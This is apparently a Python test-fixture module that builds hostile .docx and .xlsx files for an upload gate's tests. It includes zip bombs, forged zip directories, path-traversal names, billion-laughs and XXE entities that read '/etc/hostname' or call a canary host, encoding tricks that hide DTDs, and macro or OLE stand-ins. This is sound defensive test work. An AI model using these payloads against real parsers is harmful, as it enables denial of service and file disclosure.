"""Hostile files, built in code and never stored: each changes one thing in an honest file.

`REFUSED` maps a case to (what it is, builder, codes that may refuse it in the gate); `READ` maps a case
to (builder, warnings that must come). All content is harmless.
"""

# XML reads better unbroken.
# ruff: noqa: E501

import random
import struct
import zlib
from collections.abc import Callable

from tests.builders import canary
from tests.builders.packages import (
    HEAD,
    OFFICE,
    cell,
    document,
    docx,
    docx_package,
    p,
    r,
    raw_zip,
    row,
    sheet_data,
    tbl,
    tc,
    tr,
    xlsx,
    xlsx_package,
    zip_bytes,
)

CANARY_HOST = canary.ADDRESS
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXTERNAL = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{CANARY_HOST}x">]>'
FILE_ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
LAUGHS = "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
LAUGHS += "]>"


def files() -> dict[str, bytes]:
    return docx_package(p("本業務の目的")).files()


def entries() -> list[dict]:
    return [{"name": name.encode(), "data": data} for name, data in files().items()]


def with_part(
    name: str, data: bytes, *, kind: str = "", source: str = "word/document.xml", type_: str = ""
) -> bytes:
    package = docx_package(p("本文"))
    package.add(name, data, type_)
    if kind:
        package.relate(source, kind, "/" + name)
    package.defaults["bin"] = "application/octet-stream"
    package.defaults["png"] = "image/png"
    return package.build()


def bomb() -> bytes:
    package = docx_package(p("本文"))
    package.defaults["png"] = "image/png"
    package.relate("word/document.xml", "image", "media/image1.png")
    zeros = _deflated_zeros(1 << 30)
    data = [{"name": n.encode(), "data": d} for n, d in package.files().items()]
    data.append({"name": b"word/media/image1.png", "packed": zeros[0], "size": 1 << 30, "crc": 0})
    return raw_zip(data)


def lying_bomb() -> bytes:
    zeros = _deflated_zeros(1 << 30)
    return raw_zip(
        [*entries(), {"name": b"word/media/image1.png", "packed": zeros[0], "size": 1000, "crc": 0}]
    )


_ZEROS: dict[int, tuple[bytes]] = {}


def _deflated_zeros(size: int) -> tuple[bytes]:
    if size not in _ZEROS:
        deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = bytes(1 << 20)
        out = [deflater.compress(block) for _ in range(size >> 20)]
        _ZEROS[size] = (b"".join(out) + deflater.flush(),)
    return _ZEROS[size]


def many_parts() -> bytes:
    return zip_bytes([*files().items(), *((f"word/x{n}.xml", b"<x/>") for n in range(20_000))])


def hidden_parts(count: int = 530_000) -> bytes:
    """Half a million directory records behind an end record that speaks of five."""
    listed = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *(20, 20, 0, 0, 0, 0), *(0, 0, 0), 1, *(0, 0, 0, 0), 0, 0)
        + b"a"
    )
    part = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    directory = listed * count
    return part + directory + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 5, 5, len(directory), len(part), 0)


def large_together() -> bytes:
    """Five parts, each within its limit, 260 MB together, honestly declared."""
    part = b"<r>" + b"".join(b"<a b='%d'>xxxxx</a>" % (n % 7) for n in range(1000)) * 2_900 + b"</r>"
    return zip_bytes([*files().items(), *((f"word/a{n}.xml", part) for n in range(5))])


def overlapping() -> bytes:
    found = entries()
    first = raw_zip(found[:1])
    size = first.index(b"PK\x01\x02")
    return raw_zip([*found, {**found[0], "name": b"word/other.xml", "offset": size // 2}])


def shared_block() -> bytes:
    """Many directory entries that all use the bytes of one."""
    found = entries()
    return raw_zip([*found, *({**found[0], "name": b"word/c%d.xml" % n, "offset": 0} for n in range(50))])


def nested_zips() -> bytes:
    inner = docx(p("核"))
    for _ in range(5):
        package = docx_package(p("殻"))
        package.add("word/embeddings/inner.docx", inner)
        package.defaults["docx"] = "application/octet-stream"
        inner = package.build()
    return inner


def duplicate_part() -> bytes:
    return raw_zip([*entries(), {"name": b"word/document.xml", "data": document(p("別の文")).encode()}])


def named(name: bytes) -> Callable[[], bytes]:
    return lambda: raw_zip([*entries(), {"name": name, "data": b"<x/>"}])


def flagged(**fields) -> Callable[[], bytes]:
    return lambda: raw_zip([*entries(), {"name": b"word/extra.xml", "data": b"<x/>", **fields}])


def wrong_crc() -> bytes:
    found = entries()
    found[-1]["crc"] = 12345
    return raw_zip(found)


def main_part(xml: str | bytes) -> Callable[[], bytes]:
    def build() -> bytes:
        package = docx_package()
        package.parts["word/document.xml"] = xml
        return package.build()

    return build


def with_dtd(dtd: str, body: str = "&x;") -> str:
    return document(p("@@")).replace(HEAD, HEAD + dtd).replace("@@", body)


def replaced(name: str, make: Callable[[str], bytes], *, book: bool = False) -> Callable[[], bytes]:
    """A part rewritten: `make` gets its honest text."""

    def build() -> bytes:
        package = xlsx_package({"表": sheet_data(row(1, cell("A1", "x")))}) if book else docx_package(p("x"))
        found = package.files()
        package.raw[name] = make(found[name].decode())
        return package.build()

    return build


def dtd_utf16(text: str) -> bytes:
    text = text.replace(HEAD, '<?xml version="1.0" encoding="UTF-16"?>' + EXTERNAL)
    return text.encode("utf-16")


def retyped(old: str, new: str) -> Callable[[], bytes]:
    return replaced("[Content_Types].xml", lambda text: text.replace(old, new).encode())


def nested_paragraphs() -> bytes:
    return main_part(document("<w:p>" * 100_000 + "</w:p>" * 100_000))()


def open_nested(depth: int) -> bytes:
    """Nesting with noise at each level, below what counting sees: the parser must stop it."""
    noise = "".join(random.Random(n).choice("abcdef") for n in range(400))
    return main_part(document(f'<w:sdt w:x="{noise}"><w:i/>' * depth + "</w:sdt>" * depth))()


def many_attributes() -> bytes:
    noise = random.Random(5)
    attributes = " ".join(f'a{n}="{noise.randrange(10**9)}"' for n in range(200_000))
    return main_part(document(f"<w:p {attributes}/>"))()


def long_text() -> bytes:
    noise = random.Random(6)
    text = "".join(chr(0x3042 + noise.randrange(80)) for _ in range(1 << 16))
    data = document(p(text * 270)).encode()
    deflater = zlib.compressobj(1, zlib.DEFLATED, -15)  # in half a second instead of six
    packed = deflater.compress(data) + deflater.flush()
    found = [entry for entry in entries() if entry["name"] != b"word/document.xml"]
    return raw_zip([*found, {"name": b"word/document.xml", "data": data, "packed": packed}])


def empty_paragraphs() -> bytes:
    return main_part(document("<w:p/>" * 10_000_000))()


def attributes_with_marks() -> bytes:
    """200,000 attributes whose values hold the signs by which tags are told apart."""
    noise = random.Random(7)
    attributes = " ".join(f'a{n}=">{noise.randrange(10**9)}"' for n in range(200_000))
    return main_part(document(f"<w:p {attributes}/>"))()


def dtd_after_blanks() -> bytes:
    """Not named as a part that is parsed, behind more blanks than a glance would see."""
    package = docx_package()
    text = package.parts.pop("word/document.xml")
    kind = package.types.pop("word/document.xml")
    package.add("parts/main.bin", " " * 90_000 + EXTERNAL + text.replace(HEAD, ""), kind)
    package.relations[""] = []
    package.relate("", "officeDocument", "parts/main.bin")
    return package.build()


def dtd_in_crumbs() -> bytes:
    """The same, its first bytes coming one by one out of 400 tiny blocks of the packed stream."""
    text = (EXTERNAL + document(p("x")).replace(HEAD, "")).encode()
    packed = b"".join(b"\x00\x00\x00\xff\xff" * 30_000 + b"\x00\x01\x00\xfe\xff" + b" " for _ in range(2))
    packed += zlib.compress(text, 9, -15)
    data = b"  " + text
    found = [e for e in entries() if e["name"] != b"word/document.xml"]
    return raw_zip(
        [*found, {"name": b"word/document.xml", "packed": packed, "size": len(data), "crc": zlib.crc32(data)}]
    )


def encoded(encoding: str, codec: str) -> Callable[[], bytes]:
    """A main part outside of word/ in an encoding that only libxml2 would read."""

    def build() -> bytes:
        package = docx_package()
        text = package.parts.pop("word/document.xml")
        kind = package.types.pop("word/document.xml")
        text = text.replace(HEAD, f'<?xml version="1.0" encoding="{encoding}"?>' + EXTERNAL)
        package.add("parts/main.bin", text.encode(codec), kind)
        package.relations[""] = []
        package.relate("", "officeDocument", "parts/main.bin")
        return package.build()

    return build


def late_encoding() -> bytes:
    blanks = " " * 1_000
    return main_part(document(p("x")).replace('encoding="UTF-8"', f'{blanks}encoding="UTF-7"'))()


def many_links() -> bytes:
    """A list of relationships of 60 MB: the gate itself would have to parse it."""
    noise = random.Random(8)
    package = docx_package(p("本文"))
    for _ in range(60_000):
        package.relate(
            "word/document.xml", "hyperlink", f"https://example.jp/{noise.randrange(10**12)}", external=True
        )
    return package.build()


def two_directories() -> bytes:
    """The long form of the end record (zip64) names another directory than the short one."""
    data = docx(p("本文"))
    end = data.rindex(b"PK\x05\x06")
    total, size, offset = struct.unpack_from("<H2I", data, end + 10)
    long = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, total, total, size, offset + 1)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return data[:end] + long + locator + data[end:]


def too_few_listed() -> bytes:
    """The end record speaks of one part less than the directory has."""
    data = bytearray(docx(p("本文")))
    end = data.rindex(b"PK\x05\x06")
    (total,) = struct.unpack_from("<H", data, end + 10)
    struct.pack_into("<2H", data, end + 8, total - 1, total - 1)
    return bytes(data)


def crowded_inside() -> bytes:
    """An embedded workbook whose directory lists 400,000 parts."""
    package = docx_package(p("本文"))
    package.add("word/embeddings/book.xlsx", hidden_parts(400_000))
    package.relate("word/document.xml", "package", "/word/embeddings/book.xlsx")
    return zip_bytes(list(package.files().items()), method=0)


def prefixed() -> bytes:
    return b"\x00" * 64 + docx(p("本文"))


def polyglot() -> bytes:
    return b"%PDF-1.7\n" + docx(p("本文"))


def embedded_with_macros() -> bytes:
    inner = xlsx_package({"a": sheet_data()})
    inner.add("xl/vbaProject.bin", CFB + b"x" * 100)
    return with_part("word/embeddings/book.xlsx", inner.build(), kind="package")


REFUSED: dict[str, tuple[str, Callable[[], bytes], set[str]]] = {
    "H01": ("1 GiB of zeros as a picture", bomb, {"ratio", "part_too_big", "too_big_unpacked"}),
    "H02": ("the same, declared as 1,000 bytes", lying_bomb, {"ratio", "part_too_big", "damaged"}),
    "H03": ("20,000 empty parts", many_parts, {"too_many_parts"}),
    "H03b": ("530,000 parts that say they are five", hidden_parts, {"too_many_parts"}),
    "H03c": ("260 MB in honest parts", large_together, {"too_big_unpacked"}),
    "H04a": ("an entry inside another", overlapping, {"overlap", "damaged"}),
    "H04b": ("50 entries sharing one block", shared_block, {"overlap", "damaged"}),
    "H04c": ("two directories in one file", two_directories, {"damaged"}),
    "H04d": ("a part that is not counted", too_few_listed, {"damaged"}),
    "H05b": ("an embedded file of 400,000 parts", crowded_inside, {"too_many_parts"}),
    "H05": ("zips five deep", nested_zips, {"nested"}),
    "H06": ("two main parts", duplicate_part, {"duplicate_part"}),
    "H06b": ("two names that differ by case", named(b"WORD/Document.XML"), {"duplicate_part"}),
    "H07a": ("a name that climbs", named(b"../../x.xml"), {"part_name"}),
    "H07b": ("an absolute name", named(b"/etc/x.xml"), {"part_name"}),
    "H07c": ("a drive name", named(b"C:\\x.xml"), {"part_name"}),
    "H07d": ("a name with NUL", named(b"word/x.xml\x00.png"), {"part_name", "damaged"}),
    "H07e": ("a folder that holds bytes", named(b"word/x/"), {"part_name"}),
    "H08": ("a symbolic link", flagged(attributes=(0o120777 << 16)), {"symlink"}),
    "H09": ("an encrypted part", flagged(flags=0x801), {"encrypted"}),
    "H09b": ("a strange compression", flagged(method=14), {"compression"}),
    "H10": (
        "a password-protected container",
        lambda: CFB + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
        {"encrypted"},
    ),
    "H10b": ("an old .doc", lambda: CFB + b"\0" * 600 + "WordDocument".encode("utf-16-le"), {"old_format"}),
    "H11a": ("half a file", lambda: (lambda d: d[: len(d) // 2])(docx(p("本文"))), {"damaged"}),
    "H11b": ("a wrong checksum", wrong_crc, {"damaged"}),
    "H11c": (
        "10 MB of junk behind",
        lambda: docx(p("本文")) + random.Random(1).randbytes(10 << 20),
        {"extra_bytes"},
    ),
    "H11d": ("bytes in front", prefixed, {"extra_bytes"}),
    "H13": ("nested entities", main_part(with_dtd(LAUGHS, "&a9;")), {"doctype"}),
    "H14": (
        "one entity, many times",
        main_part(with_dtd(f"<!DOCTYPE w [<!ENTITY x '{'あ' * 50_000}'>]>", "&x;" * 20_000)),
        {"doctype"},
    ),
    "H15": ("an entity that names a file", main_part(with_dtd(FILE_ENTITY)), {"doctype"}),
    "H16a": ("an entity that names an address", main_part(with_dtd(EXTERNAL)), {"doctype"}),
    "H16b": (
        "a parameter entity",
        main_part(with_dtd(f'<!DOCTYPE w [<!ENTITY % y SYSTEM "{CANARY_HOST}d"> %y;]>', "a")),
        {"doctype"},
    ),
    "H16c": (
        "an external DTD",
        main_part(with_dtd(f'<!DOCTYPE w SYSTEM "{CANARY_HOST}d.dtd">', "a")),
        {"doctype"},
    ),
    "H17a": ("a DTD in UTF-16", replaced("word/document.xml", dtd_utf16), {"doctype"}),
    "H17b": (
        "a DTD in UTF-16 in the workbook",
        replaced("xl/workbook.xml", dtd_utf16, book=True),
        {"doctype"},
    ),
    "H17c": ("a DTD in UTF-16 in relationships", replaced("_rels/.rels", dtd_utf16), {"doctype"}),
    "H17d": ("a DTD in UTF-16 in the types", replaced("[Content_Types].xml", dtd_utf16), {"doctype"}),
    "H17e": (
        "another encoding that hides a DTD",
        replaced(
            "word/document.xml",
            lambda text: text.replace('encoding="UTF-8"', 'encoding="UTF-7"').encode(),
        ),
        {"xml_encoding"},
    ),
    "H17f": (
        "UTF-16 without a byte order mark",
        replaced("word/document.xml", lambda text: text.replace(HEAD, EXTERNAL).encode("utf-16-le")),
        {"doctype"},
    ),
    "H17g": ("a DTD behind 90,000 blanks", dtd_after_blanks, {"doctype"}),
    "H17h": ("a DTD in crumbs", dtd_in_crumbs, {"doctype"}),
    "H17i": ("a DTD in EBCDIC", encoded("IBM037", "cp037"), {"xml_encoding"}),
    "H17j": ("a DTD in UTF-32", encoded("UTF-32", "utf-32-be"), {"xml_encoding"}),
    "H17k": ("an encoding told late", late_encoding, {"xml_encoding"}),
    "H18b": (
        "DOCTYPE in a CDATA section",
        main_part(document("<w:p><![CDATA[<!DOCTYPE x>]]></w:p>")),
        {"doctype"},
    ),
    "H18": ("DOCTYPE in a comment", main_part(document("<!-- <!DOCTYPE x> -->" + p("本文"))), {"doctype"}),
    "H19": ("100,000 nested paragraphs", nested_paragraphs, {"too_deep", "ratio"}),
    "H20": ("200,000 attributes", many_attributes, {"too_many_attributes"}),
    "H20b": ("200,000 attributes that hold marks", attributes_with_marks, {"too_many_attributes"}),
    "H20c": (
        "1,001 attributes",
        main_part(document("<w:p " + " ".join(f'a{n}=""' for n in range(1_001)) + "/>")),
        {"too_many_attributes"},
    ),
    "H21": ("50 MB in one text", long_text, {"text_too_long", "ratio"}),
    "H22": ("10 million empty paragraphs", empty_paragraphs, {"ratio", "part_too_big", "too_many_tags"}),
    "H23": (
        "invalid UTF-8",
        main_part(document(p("@@")).encode().replace(b"@@", b"\xff\xfe\xc0")),
        {"xml_broken"},
    ),
    "H23b": ("a control character", main_part(document(p("@@")).replace("@@", "\x08")), {"xml_broken"}),
    "H23c": ("an undeclared prefix in broken XML", main_part(document("<q:p><w:p></q:p>")), {"xml_broken"}),
    "H31": (
        "a macro type under .docx",
        retyped(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        {"macro"},
    ),
    "H32": (
        "a macro project under a plain type",
        lambda: with_part("word/vbaProject.bin", CFB + b"x" * 99),
        {"macro"},
    ),
    "H32b": (
        "a macro project under another name",
        lambda: with_part(
            "word/data.bin",
            b"x" * 99,
            kind="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        ),
        {"macro"},
    ),
    "H32c": (
        "a macro project typed as XML",
        lambda: with_part("word/a.png", CFB + b"x" * 99),
        {"ole", "macro"},
    ),
    "H32d": ("an embedded workbook with macros", embedded_with_macros, {"macro"}),
    "H33a": ("an OLE object", lambda: with_part("word/embeddings/oleObject1.bin", CFB), {"ole"}),
    "H33b": (
        "an OLE object by relationship",
        lambda: with_part("word/media/thing.bin", b"xyz", kind="oleObject"),
        {"ole"},
    ),
    "H33c": ("ActiveX", lambda: with_part("word/activeX/activeX1.xml", b"<x/>"), {"activex"}),
    "H33d": (
        "a merged-in HTML document",
        lambda: with_part("word/chunk.html", b"<html/>", kind="aFChunk"),
        {"altchunk"},
    ),
    "H33e": ("changed menus", lambda: with_part("customUI/customUI.xml", b"<x/>"), {"customui"}),
    "H33g": (
        "a part of an unknown kind",
        lambda: with_part("word/media/data.xyz", b"anything", type_="application/x-something"),
        {"foreign_part"},
    ),
    "H33h": (
        "a page of HTML",
        lambda: with_part("word/a.html", b"<html/>", type_="text/html"),
        {"foreign_part"},
    ),
    "H36b": ("60,000 links in one list", many_links, {"index_too_big"}),
    "H33f": ("a program", lambda: with_part("word/media/image1.png", b"MZ" + b"\0" * 90), {"foreign_part"}),
    "H51a": ("an empty file", lambda: b"", {"empty"}),
    "H51b": ("HTML named .docx", lambda: "<html><p>本文</p></html>".encode(), {"not_office"}),
    "H51c": ("a PDF and zip at once", polyglot, {"other_format", "extra_bytes"}),
    "H51d": ("some text", lambda: "ただの文".encode(), {"not_office"}),
    "H51e": ("a zip of other things", lambda: zip_bytes([("a.txt", b"x")]), {"not_office"}),
    "H51f": (
        "an OpenDocument text",
        lambda: zip_bytes(
            [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")]
        ),
        {"other_format"},
    ),
    "H51g": ("27 MB", lambda: b"PK\x03\x04" + bytes(27 << 20), {"too_large"}),
}


def honest_empty() -> bytes:
    """Under 1 MB unpacked, packed far below 1:200: an honest, nearly empty document."""
    return main_part(document("<w:p/>" * 90_000))()


def links_outside() -> bytes:
    package = docx_package(
        p("本文") + '<w:p><w:r><w:instrText>INCLUDEPICTURE "' + CANARY_HOST + 'i"</w:instrText></w:r></w:p>'
    )
    for kind in ("attachedTemplate", "image", "frame", "subDocument", "oleObject"):
        package.relate("word/document.xml", kind, f"{CANARY_HOST}{kind}", external=True)
    package.relate("word/document.xml", "hyperlink", f"{CANARY_HOST}page", external=True)
    return package.build()


def broken_relationships() -> bytes:
    package = docx_package(p("本文"))
    package.relate("word/document.xml", "styles", "nowhere.xml")
    package.relate("word/document.xml", "image", "NULL")
    package.relate("word/document.xml", "theme", "../../../etc/passwd")
    package.relate("word/document.xml", "officeDocument", "document.xml")
    return package.build()


def odd_tables() -> bytes:
    wide = tbl(tr(*(tc(p(str(n))) for n in range(10_000))))
    broken = tbl(
        tr(tc(p("a"), '<w:gridSpan w:val="-5"/>'), tc(p("b"), "<w:vMerge/>")),
        tr(
            tc(p("c"), '<w:gridSpan w:val="999999999"/><w:vMerge w:val="continue"/>'),
            tc(p("d"), '<w:gridSpan w:val="x"/>'),
        ),
        tr(),
    )
    return docx(wide + broken + _nested_tables(60))


def _nested_tables(depth: int) -> str:
    content = p("底")
    for _ in range(depth):
        content = tbl(tr(tc(content + p("外"))))
    return content


def style_loop() -> bytes:
    styles = (
        '<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style>'
    )
    return docx(p("本文", style="A"), styles=styles)


def many_notes() -> bytes:
    notes = "".join(f'<w:footnote w:id="{n}">{p("注")}</w:footnote>' for n in range(1, 20_001))
    marks = "".join(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(1, 20_001))
    return docx(f"<w:p>{marks}</w:p>", footnotes=notes)


def strict_namespace() -> bytes:
    package = docx_package(
        p("本文", style="H"),
        styles='<w:style w:type="paragraph" w:styleId="H"><w:name w:val="heading 1"/></w:style>',
    )
    found = {
        name: data.replace(
            b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            b"http://purl.oclc.org/ooxml/wordprocessingml/main",
        ).replace(OFFICE.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")
        for name, data in package.files().items()
    }
    return zip_bytes(list(found.items()))


def foreign_prefix() -> bytes:
    return main_part(
        document(p("本文"))
        .replace("<w:", "<q:")
        .replace("</w:", "</q:")
        .replace("xmlns:w=", "xmlns:q=")
        .replace(" w:", " q:")
    )()


def embedded_workbook() -> bytes:
    return with_part(
        "word/embeddings/book.xlsx", xlsx({"a": sheet_data(row(1, cell("A1", "x")))}), kind="package"
    )


READ: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "H12 honest and nearly empty": (honest_empty, set()),
    "H24 strict namespaces": (strict_namespace, {"strict"}),
    "H24 another prefix": (foreign_prefix, set()),
    "H33 an embedded workbook": (embedded_workbook, {"embedded"}),
    "H34 links to the outside": (links_outside, {"external"}),
    "H35 relationships to nowhere": (broken_relationships, {"missing_part"}),
    "H36 a document related to itself": (
        lambda: docx_package(p("本文")).relate("word/document.xml", "officeDocument", "document.xml").build(),
        set(),
    ),
    "H37 odd tables": (odd_tables, set()),
    "H37 3,000 x 20 cells": (
        lambda: docx(tbl(*(tr(*(tc(p(str(n))) for n in range(20))) for _ in range(3_000)))),
        set(),
    ),
    "H38 hidden text": (lambda: docx(p("見える") + p("見えない", run="<w:vanish/>")), {"hidden_text"}),
    "H39 20,000 footnotes": (many_notes, set()),
    "H39 100,000 runs": (lambda: docx("<w:p>" + r("あ") * 100_000 + "</w:p>"), set()),
    "H39 styles in a circle": (style_loop, {"style_loop"}),
    "H23 a noncharacter": (lambda: docx(p("a\ufdd0b")), set()),
}


def name_of(case: str) -> str:
    """The file name that a case of `REFUSED` or `READ` comes under."""
    return "draft.xlsx" if case in BOOKS else "draft.docx"


BOOKS = {"H17b"}
